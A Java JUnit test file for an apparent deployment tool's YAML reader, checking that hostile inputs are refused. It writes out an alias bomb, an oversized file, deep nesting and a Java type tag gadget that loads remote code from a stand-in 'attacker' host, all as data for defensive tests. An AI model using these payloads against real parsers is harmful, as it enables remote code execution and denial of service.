package io.sluice.model;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Files crafted to hurt the parser are refused with a clear error and nothing is built from them. */
class HostileYamlTest {

    @Test
    void refusesAnAliasBomb() {
        StringBuilder b = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char prev = (char) (c - 1);
            b.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                b.append(i == 0 ? "" : ", ").append('*').append(prev);
            }
            b.append("]\n");
        }
        List<Problem> problems = RolloutFiles.read(b.toString(), "bomb.yaml").problems();
        assertEquals(1, problems.size());
        assertTrue(problems.get(0).message().contains("Number of aliases for non-scalar nodes exceeds"),
                problems.get(0).toString());
    }

    @Test
    void refusesATenMegabyteFileWithoutReadingIt(@TempDir Path dir) throws IOException {
        Path big = dir.resolve("big.yaml");
        Files.writeString(big, "# " + "x".repeat(10 * 1024 * 1024) + "\n");
        List<Problem> problems = RolloutFiles.readFile(big, "big.yaml").problems();
        assertEquals(List.of("big.yaml:1:1: file is 10485763 bytes; rollout files are limited to 1048576 bytes"),
                problems.stream().map(Problem::toString).toList());
    }

    @Test
    void refusesAJavaTypeTag() {
        String text = "apiVersion: sluice.io/v1alpha1\nkind: Rollout\nmetadata: !!javax.script.ScriptEngineManager"
                + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]\n";
        List<Problem> problems = RolloutFiles.read(text, "tag.yaml").problems();
        assertEquals(1, problems.size());
        assertEquals("tag.yaml:3:11: not valid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager",
                problems.get(0).toString());
    }

    @Test
    void refusesALocalTypeTagWithItsField() {
        String text = readExample().replace("  taskDefinition: rag-backend:42", "  taskDefinition: !revision rag-backend:42");
        List<Problem> problems = RolloutFiles.read(text, "rag.yaml").problems();
        assertEquals(List.of("rag.yaml:11:19: spec.taskDefinition: type tag !revision is not allowed; rollout files hold plain values"),
                problems.stream().map(Problem::toString).toList());
    }

    @Test
    void refusesDeepNesting() {
        String text = "a: " + "[".repeat(5000) + "]".repeat(5000) + "\n";
        List<Problem> problems = RolloutFiles.read(text, "deep.yaml").problems();
        assertEquals(1, problems.size());
        assertTrue(problems.get(0).message().contains("Nesting Depth exceeded max 40"), problems.get(0).toString());
    }

    private static String readExample() {
        try {
            return Files.readString(Path.of("config-repo-example/rollouts/rag-backend.yaml"));
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }
}
